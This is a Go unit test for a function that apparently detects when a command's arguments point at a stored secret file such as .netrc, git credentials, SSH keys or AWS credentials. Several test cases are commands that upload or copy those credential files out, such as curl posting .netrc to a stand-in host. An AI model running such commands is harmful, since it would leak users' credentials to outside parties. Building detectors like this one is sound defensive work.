package programs

import "testing"

// A program that stores a secret is not given the secret's path as an argument.
func TestPointedAt(t *testing.T) {
	tests := []struct {
		args   []string
		secret string
		want   bool
	}{
		{[]string{"curl", "file:///home/dev/.netrc"}, "/home/dev/.netrc", true},
		{[]string{"curl", "-d", "@.netrc", "https://site.example/"}, "/home/dev/.netrc", true},
		{[]string{"curl", "-F", "f=@/home/dev/.netrc"}, "/home/dev/.netrc", true},
		{[]string{"git", "show", "HEAD:.git-credentials"}, "/home/dev/.git-credentials", true},
		{[]string{"ssh", "-F", "id_rsa", "host.test"}, "/home/dev/.ssh/id_rsa", true},
		{[]string{"aws", "s3", "cp", "/home/dev/.aws/credentials", "s3://b"}, "/home/dev/.aws/credentials", true},
		{[]string{"curl", "-n", "https://site.example/"}, "/home/dev/.netrc", false},
		{[]string{"curl", "--netrc-file", "/home/dev/.netrc", "https://site.example/"}, "/home/dev/.netrc", false},
		{[]string{"ssh", "-i", "/home/dev/.ssh/id_rsa", "host.test"}, "/home/dev/.ssh/id_rsa", false},
		{[]string{"ssh", "-oIdentityFile=/home/dev/.ssh/id_rsa", "host.test"}, "/home/dev/.ssh/id_rsa", false},
		{[]string{"kubectl", "--kubeconfig=/home/dev/.kube/config", "get", "pods"}, "/home/dev/.kube/config", false},
		{[]string{"kubectl", "describe", "config"}, "/home/dev/.kube/config", false},
		{[]string{"git", "push", "my.git-credentials"}, "/home/dev/.git-credentials", false},
		{[]string{"/home/dev/.netrc"}, "/home/dev/.netrc", false},
		{nil, "/home/dev/.netrc", false},
	}
	for _, tt := range tests {
		if got := PointedAt(tt.args, tt.secret); got != tt.want {
			t.Errorf("pointedAt(%q, %q) = %v", tt.args, tt.secret, got)
		}
	}
}
